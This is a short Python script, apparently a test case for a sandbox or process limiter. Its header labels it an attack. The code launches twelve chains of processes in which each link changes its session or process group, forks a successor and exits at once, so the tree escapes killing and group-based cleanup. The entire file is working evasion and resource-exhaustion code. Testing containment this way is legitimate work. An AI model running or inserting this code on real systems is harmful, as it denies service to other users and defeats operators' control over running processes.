# attack: twelve chains of processes: each forks its successor and exits, faster than it can be killed
# limit: maybe
# spoils: all
import os, signal
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for chain in range(12):
    if os.fork() == 0:
        for link in range(400):
            os.setsid() if link % 2 else os.setpgid(0, 0)
            if os.fork():
                os._exit(0)
        os._exit(0)
